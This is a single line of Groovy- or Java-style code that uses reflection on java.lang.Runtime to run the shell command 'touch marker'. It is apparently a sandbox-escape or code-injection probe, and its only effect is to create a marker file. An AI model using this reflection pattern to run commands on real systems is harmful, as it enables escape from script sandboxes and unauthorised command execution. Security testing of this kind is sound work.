Class.forName('java.lang.Runtime').getMethod('exec', String).invoke(Runtime.getRuntime(), 'touch marker').waitFor()
